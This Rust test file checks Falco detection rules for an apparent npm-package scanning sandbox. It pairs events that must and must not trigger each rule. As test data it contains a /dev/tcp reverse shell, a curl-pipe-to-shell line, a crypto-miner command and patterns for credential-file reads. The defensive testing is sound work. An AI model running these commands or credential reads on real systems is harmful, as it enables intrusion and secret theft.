//! The rules that we ship for Falco, rule by rule: an event that must fire it and one that must not, as Falco sees them
//! in a pod; and none of them anywhere else.
//!
//! Events are written as in `lanner_rules`. `~/` is the home and `@/` the project as they lie in a container. Before the
//! event stands who does it, where that is not a program that an install script started: `leader`, `agent`, or `orphan`,
//! a program that the agent adopted.

use std::collections::BTreeSet;

use lanner_rules::{LANNER_RULES, RuleSet, Source, falco};

use crate::support::{Table, lines, typed, written};

const HOME: &str = "/var/lib/lanner/7f3a/home/u";
const PROJECT: &str = "/var/lib/lanner/7f3a/home/u/src/web";
const SHIPPED: &str = include_str!("../../../../charts/lanner/files/falco_rules.lanner.yaml");

fn rules() -> RuleSet {
    RuleSet::compile(&[Source { name: "falco_rules.lanner.yaml", text: SHIPPED }], &falco::has_field)
        .unwrap_or_else(|found| panic!("{}", lines(&found)))
}

/// Who does it, and what Falco knows of him.
const ACTORS: &[(&str, &[(&str, &str)])] = &[
    (
        "leader",
        &[
            ("proc.name", "npm install"),
            ("proc.args", "/usr/bin/npm install --ignore-scripts=false --foreground-scripts=false"),
            ("proc.pname", "lanner"),
            ("proc.aname", "lanner,lanner,lanner"),
        ],
    ),
    ("orphan", &[("proc.pname", "lanner"), ("proc.aname", "lanner,lanner,lanner")]),
    (
        "agent",
        &[
            ("proc.name", "lanner"),
            ("proc.exepath", "/usr/local/bin/lanner"),
            ("proc.args", "agent"),
            ("proc.pname", "lanner"),
            ("proc.aname", "lanner,lanner"),
        ],
    ),
];

const SCRIPT: &[(&str, &str)] = &[
    ("proc.name", "node"),
    ("proc.exepath", "/usr/bin/node"),
    ("proc.cmdline", "node install.js"),
    ("proc.args", "install.js"),
    ("proc.pname", "sh"),
    ("proc.aname", "sh,npm install,lanner,lanner,lanner"),
    ("proc.env", "HOME=/var/lib/lanner/7f3a/home/u NPM_TOKEN=npm_x"),
    ("proc.stdin.type", "unix"),
    ("proc.is_exe_upper_layer", "false"),
    ("proc.is_exe_writable", "false"),
    ("proc.is_exe_from_memfd", "false"),
    ("evt.res", "SUCCESS"),
    ("container.id", "3ad7b26ded6d"),
    ("container.name", "agent"),
    ("k8s.pod.name", "lanner-scan-1"),
];

/// An event as Falco raises it; `more` wins over what the line says.
fn event<'l>(rules: &RuleSet, line: &'l str, more: &[(&str, &str)]) -> Table<'l> {
    let actor =
        ACTORS.iter().find_map(|(name, fields)| Some((*fields, line.strip_prefix(name)?.strip_prefix(' ')?)));
    let (actor, line) = actor.unwrap_or((&[], line));
    let (event_type, mut given) = written(line);
    for value in given.values_mut() {
        let path = value.strip_prefix("~/").map(|rest| format!("{HOME}/{rest}"));
        *value = path
            .or_else(|| Some(format!("{PROJECT}/{}", value.strip_prefix("@/")?)))
            .unwrap_or(value.clone());
    }
    for (name, value) in actor.iter().chain(SCRIPT) {
        given.entry((*name).to_owned()).or_insert_with(|| (*value).to_owned());
    }
    if let Some(path) = given.get("fd.name").cloned().filter(|_| event_type.starts_with("open")) {
        given.entry("fd.nameraw".to_owned()).or_insert_with(|| path.clone());
        given.insert("fd.filename".to_owned(), path.rsplit('/').next().unwrap_or_default().to_owned());
        given.insert("fs.path.name".to_owned(), path);
    }
    if let Some(address) = given.get("fd.sip").cloned() {
        given.insert("fd.snet".to_owned(), address);
    }
    given.extend(more.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())));
    let values = given.into_iter().map(|(name, value)| (name.clone(), typed(&name, &value))).collect();
    Table { event_type, names: rules.fields().iter().map(ToString::to_string).collect(), values }
}

fn fired<'r>(rules: &'r RuleSet, line: &str, more: &[(&str, &str)]) -> Vec<&'r str> {
    rules.evaluate(&event(rules, line, more)).iter().map(|found| found.rule.name.as_str()).collect()
}

type Row = (&'static str, &'static [&'static str], &'static [&'static str]);

#[rustfmt::skip]
const TABLE: &[Row] = &[
    ("Read decoy credentials", &[
        "openat fd.name=~/.npmrc evt.is_open_read=true",
        "openat fd.name=~/.ssh/id_rsa evt.is_open_read=true proc.name=cat proc.exepath=/usr/bin/cat",
        "leader openat fd.name=~/.aws/credentials evt.is_open_read=true",
        // The agent adopts what outlives its parent: that alone makes nobody the package manager.
        "orphan openat fd.name=~/.npmrc evt.is_open_read=true",
        "orphan openat fd.name=~/.npmrc evt.is_open_read=true proc.args=/tmp/x/npm install --ignore-scripts=false",
        "orphan openat fd.name=~/.npmrc evt.is_open_read=true proc.args=/usr/bin/npm install x proc.exepath=/tmp/node",
        "leader openat fd.name=~/.npmrc evt.is_open_read=true proc.env=NODE_OPTIONS=--require=/tmp/x.js",
        "openat fd.name=~/.npmrc evt.is_open_read=true proc.args=/usr/bin/npm init -y --init-module=/x/m.js",
        "openat fd.name=~/.npmrc evt.is_open_read=true proc.args=/usr/bin/npm run x proc.env=A=b LD_PRELOAD=x.so",
        // A program that calls itself the agent, or the agent with something in it.
        "agent openat fd.name=~/.ssh/id_rsa evt.is_open_read=true proc.exepath=/tmp/lanner",
        "agent openat fd.name=~/.ssh/id_rsa evt.is_open_read=true proc.env=LD_PRELOAD=/tmp/x.so",
    ], &[
        "leader openat fd.name=~/.npmrc evt.is_open_read=true",
        "openat fd.name=~/.npmrc evt.is_open_read=true proc.args=/usr/bin/npm run build",
        "openat fd.name=@/.npmrc evt.is_open_read=true",
        "agent openat fd.name=~/.ssh/id_rsa evt.is_open_read=true",
        "openat fd.name=~/.npmrc evt.is_open_write=true",
    ]),
    ("Read credentials", &[
        "openat fd.name=~/.netrc evt.is_open_read=true evt.res=ENOENT",
        "leader openat fd.name=~/.config/gcloud/credentials.db evt.is_open_read=true",
        "openat fd.name=/root/.cargo/credentials.toml evt.is_open_read=true",
    ], &["openat fd.name=~/.kube/config evt.is_open_read=true",
         "openat fd.name=~/.gitconfig evt.is_open_read=true",
         "openat fd.name=@/node_modules/evil/test/.ssh/id_ecdsa evt.is_open_read=true"]),
    ("Link or move credentials", &[
        "linkat fs.path.source=~/.ssh/id_rsa fs.path.target=@/a.txt",
        "rename fs.path.source=~/.npmrc fs.path.target=/tmp/a",
    ], &["linkat fs.path.source=@/a fs.path.target=@/b",
         "leader rename fs.path.source=@/node_modules/x/.npmrc fs.path.target=@/node_modules/.x/.npmrc"]),
    ("Read system secrets", &["openat fd.name=/etc/shadow evt.is_open_read=true evt.res=EACCES"],
        &["openat fd.name=/etc/passwd evt.is_open_read=true"]),
    ("Read service account token", &["openat fd.name=/var/run/secrets/kubernetes.io/serviceaccount/token evt.is_open_read=true"],
        &["openat fd.name=/run/systemd/seats/seat0 evt.is_open_read=true"]),
    ("Read environment or memory of another process", &[
        "openat fd.name=/proc/1/environ evt.is_open_read=true",
        "openat fd.name=/proc/7/mem evt.is_open_write=true",
    ], &["openat fd.name=/proc/self/environ evt.is_open_read=true", "openat fd.name=/proc/meminfo evt.is_open_read=true"]),
    ("Read project secrets", &["openat fd.name=@/.env evt.is_open_read=true"],
        &["openat fd.name=@/node_modules/evil/.env evt.is_open_read=true"]),
    ("Shell on a network socket", &["execve proc.name=sh proc.exepath=/usr/bin/sh proc.stdin.type=ipv4"],
        &["execve proc.name=sh proc.exepath=/usr/bin/sh"]),
    ("Reverse shell command", &["execve proc.name=bash proc.cmdline=bash -c bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"],
        &["execve proc.name=bash proc.cmdline=bash -c echo > /dev/null"]),
    ("Download tool", &["execve proc.name=curl proc.exepath=/usr/bin/curl", "execve proc.name=git proc.args=clone https://x.invalid/y"],
        &["execve proc.name=git proc.args=config core.hooksPath .husky", "agent execve"]),
    ("Pipe to shell", &["execve proc.name=sh proc.cmdline=sh -c curl -s http://x.invalid/i.sh | sh"],
        &["execve proc.name=sh proc.cmdline=sh -c node install.js || echo failed | cat"]),
    ("Publish or use registry credentials", &["execve proc.name=npm proc.cmdline=npm publish --access public"],
        &["execve proc.name=node proc.cmdline=node /usr/bin/npm run publish-docs"]),
    ("Another runtime", &["execve proc.name=bun proc.exepath=@/node_modules/evil/bun"], &["execve proc.name=node"]),
    ("Miner", &["execve proc.name=kworker proc.cmdline=./kworker -o stratum+tcp://pool.invalid:3333"],
        &["execve proc.name=node proc.cmdline=node mine-data.js"]),
    ("Change of user", &["setuid proc.name=node evt.res=EPERM", "execve proc.name=sudo proc.cmdline=sudo id"],
        &["leader setuid", "agent setresuid"]),
    ("Look at the machine", &["execve proc.name=whoami proc.cmdline=whoami"], &["execve proc.name=uname"]),
    ("Run a dropped file", &[
        "execve proc.name=x proc.exepath=/tmp/x proc.is_exe_upper_layer=true",
        "execve proc.name=x proc.exepath=~/.bun/bin/bun proc.is_exe_writable=true",
    ], &["execve proc.name=esbuild proc.exepath=@/node_modules/evil/bin/esbuild proc.is_exe_writable=true",
         "execve proc.name=gcc proc.exepath=/usr/bin/gcc"]),
    ("Run a script from a temporary folder", &["execve proc.name=sh proc.args=/tmp/run.sh proc.cmdline=sh /tmp/run.sh"],
        &["execve proc.name=sh proc.args=-c ls /tmp/x"]),
    ("Run from memory", &["execveat proc.name=3 proc.exepath=memfd:x proc.is_exe_from_memfd=true"],
        &["execve proc.name=sh proc.exepath=/usr/bin/sh"]),
    ("File in memory", &["memfd_create", "memfd_create proc.args=/usr/bin/npm install x"], &["leader memfd_create"]),
    ("Cloud metadata service", &["connect fd.type=ipv4 fd.sip=169.254.169.254 fd.sport=80 fd.l4proto=tcp"],
        &["connect fd.type=ipv4 fd.sip=169.254.1.1 fd.sport=80"]),
    ("Direct connection", &[
        "connect fd.type=ipv4 fd.sip=203.0.113.9 fd.sport=443 fd.l4proto=tcp",
        "sendto fd.type=ipv4 fd.sip=10.96.0.10 fd.sport=53 fd.l4proto=udp",
        "leader connect fd.type=ipv6 fd.sip=2001:db8::1 fd.sport=443 fd.l4proto=tcp",
    ], &["connect fd.type=ipv4 fd.sip=127.0.0.1 fd.sport=38431", "connect fd.type=ipv6 fd.sip=::1 fd.sport=38431",
         "connect fd.type=unix fd.name=/var/run/nscd/socket"]),
    ("Raw socket", &["socket fd.type=ipv4 fd.l4proto=raw", "socket evt.arg.domain=AF_PACKET evt.res=EPERM"],
        &["socket fd.type=netlink", "socket fd.type=ipv4 fd.l4proto=tcp evt.arg.domain=AF_INET"]),
    ("Datagram socket", &["socket fd.type=ipv4 fd.l4proto=udp"],
        &["socket fd.type=unix", "leader socket fd.type=ipv4 fd.l4proto=udp"]),
    ("Listening socket", &["listen fd.type=ipv4 fd.sip=0.0.0.0 fd.sport=1337"], &["listen fd.type=unix fd.name=/tmp/s"]),
    ("Agent or container socket", &["connect fd.type=unix fd.name=ffff8f0->ffff8f4 /run/docker.sock"],
        &["connect fd.type=unix fd.name=ffff8f0->ffff8f4 /run/user/1000/bus"]),
    ("Write a start-up file", &["openat fd.name=~/.bashrc evt.is_open_write=true", "openat fd.name=/etc/cron.d/x evt.is_open_write=true evt.res=EACCES"],
        &["openat fd.name=@/.bashrc evt.is_open_write=true", "leader openat fd.name=~/.npmrc evt.is_open_write=true"]),
    ("Put a start-up file in place", &["renameat2 fs.path.source=/tmp/x fs.path.target=~/.bashrc"],
        &["rename fs.path.source=@/a fs.path.target=@/b"]),
    ("Schedule a task", &["execve proc.name=crontab proc.args=- proc.cmdline=crontab -"],
        &["execve proc.name=crontab proc.args=-l proc.cmdline=crontab -l"]),
    ("Write a foreign git hook", &["openat fd.name=/srv/repo/.git/hooks/pre-commit evt.is_open_write=true"],
        &["openat fd.name=@/.git/hooks/pre-commit evt.is_open_write=true"]),
    ("Write a git hook of the project", &["openat fd.name=@/.husky/_/pre-commit evt.is_open_write=true"],
        &["leader openat fd.name=@/.husky/_/pre-commit evt.is_open_write=true"]),
    ("Write automation into the project", &["openat fd.name=@/.github/workflows/ci.yml evt.is_open_write=true"],
        &["openat fd.name=@/node_modules/evil/.github/workflows/ci.yml evt.is_open_write=true"]),
    ("Put automation in place", &["rename fs.path.source=/tmp/x fs.path.target=@/.github/workflows/x.yml"],
        &["rename fs.path.source=/tmp/x fs.path.target=@/node_modules/a/.vscode/x"]),
    ("Write to the home folder", &["openat fd.name=~/Documents/a.odt evt.is_open_write=true"],
        &["openat fd.name=~/.cache/node-gyp/20/include/node.h evt.is_open_write=true", "openat fd.name=@/out.js evt.is_open_write=true"]),
    ("Put something into the home folder", &["rename fs.path.source=@/c fs.path.target=~/.config", "symlink fs.path.source=/tmp/x fs.path.target=~/Desktop"],
        &["rename fs.path.source=~/.npm/_cacache/tmp/x fs.path.target=~/.npm/x", "rename fs.path.source=/tmp/x fs.path.target=@/x",
          "leader rename fs.path.source=/x fs.path.target=~/.config"]),
    ("Delete from the home folder", &["unlinkat fs.path.name=~/Documents/a.odt"],
        &["unlink fs.path.name=@/node_modules/evil/tmp.o", "unlink fs.path.name=~/.npm/_cacache/tmp/x", "unlink fs.path.name=/tmp/x"]),
    ("Write outside", &["openat fd.name=/usr/local/bin/x evt.is_open_write=true evt.res=EROFS"],
        &["openat fd.name=/dev/null evt.is_open_write=true", "openat fd.name=/var/lib/lanner/7f3a/tmp/ccAbc.s evt.is_open_write=true"]),
    ("Trace or write another process", &["ptrace proc.name=gdb evt.res=EPERM", "process_vm_writev proc.name=x"], &["execve proc.name=gdb"]),
    ("Lanner mark", &["agent execve proc.args=mark 0123456789abcdef0123456789abcdef", "agent execve proc.args=mark 00 container.id=host"],
        &["agent execve", "execve proc.args=mark x"]),
];

#[test]
fn every_rule_has_a_row_and_every_row_a_rule() {
    let rules = rules();
    let defined: BTreeSet<_> = rules.rules().map(|rule| rule.name.as_str()).collect();
    let tested: BTreeSet<_> = TABLE.iter().map(|(rule, ..)| *rule).collect();
    assert_eq!(defined, tested);
    assert!(TABLE.iter().all(|(_, fires, silent)| !fires.is_empty() && !silent.is_empty()));
}

#[test]
fn every_rule_fires_in_a_pod_when_it_must_and_only_then() {
    let rules = rules();
    let mut wrong = String::new();
    for (rule, fires, silent) in TABLE {
        for line in *fires {
            let fired = fired(&rules, line, &[]);
            if !fired.contains(rule) {
                wrong += &format!("{rule} must fire, but {fired:?} did: {line}\n");
            }
        }
        for line in *silent {
            if fired(&rules, line, &[]).contains(rule) {
                wrong += &format!("{rule} must not fire: {line}\n");
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn nothing_but_the_mark_fires_outside_of_our_pods() {
    let rules = rules();
    let elsewhere: [&[(&str, &str)]; 2] =
        [&[("container.id", "host")], &[("proc.aname", "sh,node,containerd-shim"), ("proc.pname", "sh")]];
    let mut wrong = String::new();
    for line in TABLE.iter().filter(|(rule, ..)| *rule != "Lanner mark").flat_map(|(_, fires, _)| *fires) {
        for more in elsewhere {
            let fired = fired(&rules, line, more);
            if !fired.is_empty() {
                wrong += &format!("{fired:?} fired, but not in a scan ({more:?}): {line}\n");
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

/// What the agent does for the package, and what npm and benign scripts do, seen by Falco.
#[rustfmt::skip]
const BENIGN: &[&str] = &[
    "agent openat fd.name=~/.ssh/id_rsa evt.is_open_read=true", "agent openat fd.name=/proc/77/mem evt.is_open_read=true",
    "agent connect fd.type=ipv4 fd.sip=10.0.0.7 fd.sport=8443", "agent setresuid", "agent openat fd.name=/proc/77/environ evt.is_open_read=true",
    "leader openat fd.name=~/.npmrc evt.is_open_read=true", "leader openat fd.name=@/.npmrc evt.is_open_read=true",
    "leader openat fd.name=~/.npm/_logs/x.log evt.is_open_write=true", "leader openat fd.name=~/.gitconfig evt.is_open_read=true",
    "leader rename fs.path.source=~/.npm/_cacache/tmp/1 fs.path.target=~/.npm/_cacache/content-v2/2",
    "leader unlink fs.path.name=~/.npm/_logs/old.log", "leader connect fd.type=ipv4 fd.sip=127.0.0.1 fd.sport=38431",
    "leader openat fd.name=@/node_modules/evil/.vscode/settings.json evt.is_open_write=true",
    "openat fd.name=~/.npmrc evt.is_open_read=true proc.args=/usr/bin/npm run build",
    "execve proc.name=sh proc.exepath=/usr/bin/sh proc.cmdline=sh -c node-gyp rebuild proc.args=-c node-gyp rebuild",
    "execve proc.name=gcc proc.exepath=/usr/bin/gcc proc.args=-o Release/obj.target/addon.o -c addon.c",
    "openat fd.name=@/node_modules/evil/build/Release/addon.node evt.is_open_write=true proc.name=ld",
    "execve proc.name=conftest proc.exepath=@/node_modules/evil/build/conftest proc.is_exe_writable=true",
    "openat fd.name=/var/lib/lanner/7f3a/tmp/ccAbc.s evt.is_open_write=true proc.name=gcc",
    "connect fd.type=ipv4 fd.sip=127.0.0.1 fd.sport=38431", "socket fd.type=unix", "socket fd.type=ipv4 fd.l4proto=tcp evt.arg.domain=AF_INET",
    "openat fd.name=/proc/self/maps evt.is_open_read=true", "openat fd.name=/dev/null evt.is_open_write=true",
];

#[test]
fn benign_installations_raise_nothing() {
    let rules = rules();
    let fired = BENIGN.iter().map(|line| (*line, fired(&rules, line, &[])));
    let wrong: Vec<_> = fired.filter(|(_, fired)| !fired.is_empty()).collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn an_alert_says_whose_it_is() {
    let rules = rules();
    let found =
        rules.evaluate(&event(&rules, "openat fd.name=~/.ssh/id_rsa evt.is_open_read=true proc.pid=77", &[]));
    assert_eq!(
        String::from_utf8_lossy(&found[0].output),
        "node read the decoy /var/lib/lanner/7f3a/home/u/.ssh/id_rsa | command=node install.js parent=sh result=SUCCESS \
         pid=77 exepath=/usr/bin/node container_id=3ad7b26ded6d container_name=agent pod=lanner-scan-1"
    );
}

#[test]
fn the_shipped_file_is_what_the_rules_come_to() {
    let ours = Source { name: "lanner_rules.yaml", text: LANNER_RULES };
    let dialect = Source { name: "falco_dialect.yaml", text: falco::DIALECT };
    let text = falco::translate(ours, dialect).unwrap_or_else(|found| panic!("{}", lines(&found)));
    assert!(text == SHIPPED, "falco_rules.lanner.yaml has drifted: run `cargo xtask falco-rules`");
    let ours = RuleSet::compile(&[ours], &|_| true).unwrap_or_else(|found| panic!("{}", lines(&found)));
    let shipped = rules();
    for rule in ours.rules() {
        let listed = SHIPPED.contains(&format!("# - {}: ", rule.name));
        let there = shipped.rules().find(|theirs| theirs.name == rule.name);
        assert!(listed != there.is_some(), "{} is neither there nor listed, or both", rule.name);
        let same = there.is_none_or(|theirs| theirs.priority == rule.priority && theirs.tags == rule.tags);
        assert!(same, "{} has another priority or other tags", rule.name);
    }
}
